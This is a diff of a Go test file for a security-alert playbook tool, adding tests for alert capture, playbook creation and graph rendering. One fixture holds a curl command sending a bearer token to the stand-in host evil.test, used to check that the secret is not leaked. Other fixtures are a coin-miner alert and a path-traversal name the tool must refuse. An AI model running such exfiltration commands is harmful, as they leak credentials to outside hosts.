@@ -4,14 +4,16 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"io/fs"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 	"time"
 
+	"github.com/erbridge/erbridge/internal/config"
 	"github.com/erbridge/erbridge/internal/soar"
-	"github.com/erbridge/erbridge/internal/store"
+	"github.com/erbridge/erbridge/playbooks/library"
 )
 
 const goodTest = `
@@ -136,29 +138,13 @@ func TestFromAlertToTests(t *testing.T) {
 	dir := t.TempDir()
 	cfg := write(t, dir, "erbridge.yaml", goodConfig)
 	write(t, dir, "playbooks/note.yaml", goodPlaybook)
-	s, err := store.Open(t.Context(), filepath.Join(dir, "data"), store.Options{})
-	if err != nil {
-		t.Fatal(err)
-	}
-	ctx, cancel := context.WithCancel(t.Context())
-	ended := make(chan error, 1)
-	go func() { ended <- s.Run(ctx) }()
 	at := time.Date(2026, 11, 22, 3, 22, 30, 0, time.UTC)
 	alert := soar.Alert{
 		Server: "er", ID: "4711", Source: "rule", Severity: soar.SeverityHigh, Status: soar.StatusOpen, CreatedAt: at, EventTime: at,
 		Host: soar.Host{Identifier: "4C4C", Name: "ACME-PC7", Platform: "windows"}, Rule: &soar.Rule{ID: 3, Name: "Coin miner"},
 		Event: map[string]string{"cmdline": `xmrig -u ACME\eve`, "path": `C:\Temp\xmrig.exe`, "owner_uid": `ACME\eve`},
 	}
-	if _, err := s.Commit(ctx, soar.Change{Alerts: []soar.Alert{alert}}); err != nil {
-		t.Fatal(err)
-	}
-	cancel()
-	if err := <-ended; !errors.Is(err, context.Canceled) {
-		t.Fatal(err)
-	}
-	if err := s.Close(); err != nil {
-		t.Fatal(err)
-	}
+	storeAlerts(t, dir, alert)
 
 	pbs := filepath.Join(dir, "pbs")
 	stdout, stderr, code := erbridge(t, "", "alerts", "capture", "er-4711", "-c", cfg, "--dir", pbs+"/alerts", "--keep", "host.name")
@@ -214,6 +200,86 @@ func TestFromAlertToTests(t *testing.T) {
 	}
 }
 
+// Any playbook gets tests that pass, and one that gets none leaves no file behind.
+func TestCaptureWithPlaybook(t *testing.T) {
+	dir := t.TempDir()
+	cfg := write(t, dir, "erbridge.yaml", goodConfig)
+	write(t, dir, "playbooks/note.yaml", goodPlaybook)
+	alert := numbered(7, soar.SeverityHigh)
+	alert.Event["cmdline"] = `curl -H "Authorization: Bearer abcdef123456" https://evil.test`
+	storeAlerts(t, dir, alert)
+	capture := func(line ...string) (stdout, stderr string, code int) {
+		return erbridge(t, "", append([]string{"alerts", "capture", "-c", cfg}, line...)...)
+	}
+	for _, name := range config.LibraryNames() {
+		data, err := fs.ReadFile(library.FS, name+".yaml")
+		if err != nil {
+			t.Fatal(err)
+		}
+		path := write(t, dir, "lib/"+name+".yaml", string(data))
+		if _, stderr, code := capture("er-7", "--dir", filepath.Join(dir, "lib", "alerts-"+name), "--playbook", path); code != exitOK || strings.Contains(stderr, "abcdef123456") {
+			t.Errorf("%s: code %d, %s", name, code, stderr)
+		}
+	}
+	if stdout, stderr, code := erbridge(t, "", "playbook", "test", filepath.Join(dir, "lib")); code != exitOK {
+		t.Errorf("code %d\n%s%s", code, stdout, stderr)
+	}
+
+	broken := write(t, dir, "broken.yaml", strings.Replace(goodPlaybook, "alert.note", "alert.nto", 1))
+	hourly := write(t, dir, "hourly.yaml", "playbook: hourly\non: {schedule: {every: 1h}}\nsteps: [{do: notify.send, with: {sink: screen, text: a}}]")
+	for _, tt := range []struct {
+		line   []string
+		code   int
+		stderr string
+	}{
+		{[]string{"er-8"}, exitNotFound, "erbridge alerts list names those of the store"},
+		{[]string{"er-7", "--playbook", filepath.Join(dir, "absent.yaml")}, exitNotFound, "absent.yaml"},
+		{[]string{"er-7", "--playbook", broken}, exitConfig, `unknown action "alert.nto"`},
+		{[]string{"er-7", "--playbook", hourly}, exitUsage, "takes no alerts"},
+	} {
+		into := filepath.Join(dir, "nothing")
+		if _, stderr, code := capture(append(tt.line, "--dir", into)...); code != tt.code || !strings.Contains(stderr, tt.stderr) {
+			t.Errorf("%v: code %d, want %d: %s", tt.line, code, tt.code, stderr)
+		}
+		if _, err := os.Stat(into); !errors.Is(err, fs.ErrNotExist) {
+			t.Errorf("%v: something was written, %v", tt.line, err)
+		}
+	}
+}
+
+// What cannot become a playbook is refused before anything is written.
+func TestNewRefuses(t *testing.T) {
+	dir := t.TempDir()
+	alert := write(t, dir, "alert.json", `{"server": "er", "id": "7", "severity": "high", "event": {}}`)
+	empty := write(t, dir, "empty.json", `{}`)
+	for _, tt := range []struct {
+		line   []string
+		code   int
+		stderr string
+	}{
+		{[]string{"noise_test", "--alert", alert}, exitUsage, "without _test at its end"},
+		{[]string{"../up", "--alert", alert}, exitUsage, `"../up" is no name for a playbook`},
+		{[]string{"a", "--alert", empty}, exitUsage, "says nothing to begin with"},
+		{[]string{"a", "--alert", filepath.Join(dir, "absent.json")}, exitNotFound, "absent.json"},
+		{[]string{"a"}, exitUsage, "--alert"},
+	} {
+		into := filepath.Join(dir, "new")
+		if _, stderr, code := erbridge(t, "", append([]string{"playbook", "new", "--dir", into}, tt.line...)...); code != tt.code || !strings.Contains(stderr, tt.stderr) {
+			t.Errorf("%v: code %d, want %d: %s", tt.line, code, tt.code, stderr)
+		}
+		if _, err := os.Stat(into); !errors.Is(err, fs.ErrNotExist) {
+			t.Errorf("%v: something was written, %v", tt.line, err)
+		}
+	}
+	into := filepath.Join(dir, "null")
+	if _, stderr, code := erbridge(t, "", "playbook", "new", "null", "--alert", alert, "--dir", into); code != exitOK {
+		t.Fatalf("code %d: %s", code, stderr)
+	}
+	if data, err := os.ReadFile(filepath.Join(into, "null.yaml")); err != nil || !strings.Contains(string(data), "\nplaybook: \"null\"\n") {
+		t.Errorf("%v\n%s", err, data)
+	}
+}
+
 func TestSchemaCommand(t *testing.T) {
 	for word, title := range map[string]string{"playbook": "erbridge playbook", "test": "erbridge playbook test", "config": "erbridge configuration"} {
 		stdout, stderr, code := erbridge(t, "", "playbook", "schema", word)
@@ -231,7 +297,10 @@ func TestSchemaCommand(t *testing.T) {
 func TestGraph(t *testing.T) {
 	path := write(t, t.TempDir(), "drawn.yaml", `
 playbook: drawn
+on: [alert, manual, {schedule: {every: 6h}}]
 match: {all: [{a "quoted" one: .alert.severity == "high"}]}
+count: {by: .alert.host.identifier, window: 1h}
+group: {by: .alert.host.identifier, window: 5m}
 enrich: {known: {do: host.get, with: {host: "${{ .alert.host.identifier }}"}}}
 cooldown: {key: .alert.host.identifier, for: 1h30m}
 steps:
@@ -240,12 +309,16 @@ steps:
     do: host.tag
     with: {host: "${{ .alert.host.identifier }}", tag: a}
     retry: {attempts: 3}
+    timeout: 90s
     on_error: [{id: say, do: alert.note, with: {text: a}}]
+  - {id: first_if, for_each: .alert.host.tags, max_parallel: 4, do: alert.note, with: {text: "${{ .item }}"}, on_error: continue}
+  - {id: sub, if: 'any(.alert.host.tags[]?; . == "]; a --> b <i> #35; %%{init: {}}%% `+"`x`"+`")', call: drawn-too}
   - id: both
     parallel:
       - {id: left, do: alert.note, with: {text: a}}
       - - {id: right, do: alert.note, with: {text: a}, on_error: continue}
 finally:
+  - {id: before, do: alert.note, with: {text: a}}
   - {id: last, do: alert.note, with: {text: a}}
 `)
 	for _, format := range []string{"text", "mermaid", "dot"} {
